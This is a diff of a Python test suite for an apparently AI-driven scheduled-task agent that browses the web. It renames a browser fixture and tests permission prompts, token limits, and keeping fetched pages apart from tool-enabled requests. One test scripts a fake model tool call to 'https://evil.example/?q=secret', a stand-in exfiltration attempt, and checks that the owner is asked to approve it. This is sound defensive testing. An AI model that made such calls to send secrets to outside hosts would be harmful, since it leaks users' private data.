@@ -31,7 +31,7 @@ def test_its_answer_becomes_a_message_with_the_owners_sentence_above_it(clock: C
 
 
 def test_it_sees_nothing_of_the_conversation_and_of_the_preferences(
-    clock: Clock, browser: Device, model: ModelServer
+    clock: Clock, canned_browser: Device, model: ModelServer
 ) -> None:
     Preference.objects.create(text="canary-preference")
     run_now(schedule_task("Write a line about rain"))
@@ -41,7 +41,7 @@ def test_it_sees_nothing_of_the_conversation_and_of_the_preferences(
 
 
 def test_it_waits_for_a_grant_without_a_slot_and_goes_on_after_the_answer(
-    clock: Clock, browser: Device, model: ModelServer
+    clock: Clock, canned_browser: Device, model: ModelServer
 ) -> None:
     schedule = schedule_task()
     run = run_now(schedule)
@@ -58,7 +58,7 @@ def test_it_waits_for_a_grant_without_a_slot_and_goes_on_after_the_answer(
     assert WATER.paragraphs[0] in message.text
 
 
-def test_pages_and_tools_never_meet_in_one_request(clock: Clock, browser: Device, model: ModelServer) -> None:
+def test_pages_and_tools_never_meet_in_one_request(clock: Clock, canned_browser: Device, model: ModelServer) -> None:
     run_now(schedule_task())
     answer_ask("allow")
     carry_out_all()
@@ -66,7 +66,7 @@ def test_pages_and_tools_never_meet_in_one_request(clock: Clock, browser: Device
     assert [request for request in model.requests if request.tools and WATER.paragraphs[0] in request.everything] == []
 
 
-def test_what_is_refused_is_said_and_not_asked_again(clock: Clock, browser: Device, model: ModelServer) -> None:
+def test_what_is_refused_is_said_and_not_asked_again(clock: Clock, canned_browser: Device, model: ModelServer) -> None:
     run_now(schedule_task())
     answer_ask("block")
     [run] = carry_out_all()
@@ -76,7 +76,7 @@ def test_what_is_refused_is_said_and_not_asked_again(clock: Clock, browser: Devi
 
 
 def test_an_address_that_the_owner_did_not_write_is_asked_about_for_a_day(
-    clock: Clock, browser: Device, model: ModelServer
+    clock: Clock, canned_browser: Device, model: ModelServer
 ) -> None:
     call = Reply(tools=(ToolUse("browse_url", {"url": "https://evil.example/?q=secret"}),))
     model.on(lambda request: zone(request) == "planner" and not request.tool_results, call)
@@ -121,7 +121,9 @@ def test_when_the_day_is_used_up_it_waits_for_the_next_one(clock: Clock, model: 
     assert stored_messages()[-1].text.startswith("> Write a line")
 
 
-def test_what_a_whole_day_is_not_enough_for_ends_and_says_so(clock: Clock, browser: Device, model: ModelServer) -> None:
+def test_what_a_whole_day_is_not_enough_for_ends_and_says_so(
+    clock: Clock, canned_browser: Device, model: ModelServer
+) -> None:
     config.DAY_TOKENS_MAX = 1
     model.on(lambda request: zone(request) == "planner" and bool(request.tool_results), text("Go on."))
     schedule = schedule_task(TASK)
@@ -154,7 +156,7 @@ def test_its_page_shows_the_planner_and_the_message(clock: Clock, client: Client
 
 
 def test_its_request_holds_the_tools_for_the_web_and_the_owners_words(
-    clock: Clock, browser: Device, model: ModelServer
+    clock: Clock, canned_browser: Device, model: ModelServer
 ) -> None:
     run_now(schedule_task())
     [request] = model.requests
@@ -162,7 +164,7 @@ def test_its_request_holds_the_tools_for_the_web_and_the_owners_words(
 
 
 def test_a_task_that_needs_several_sites_stops_at_one_question_and_resumes_after_a_word(
-    clock: Clock, browser: Device, model: ModelServer
+    clock: Clock, canned_browser: Device, model: ModelServer
 ) -> None:
     urls = [f"https://{name}.example/water" for name in ("beans", "coffee", "water")]
     calls = Reply(tools=tuple(ToolUse("browse_url", {"url": url}) for url in urls))
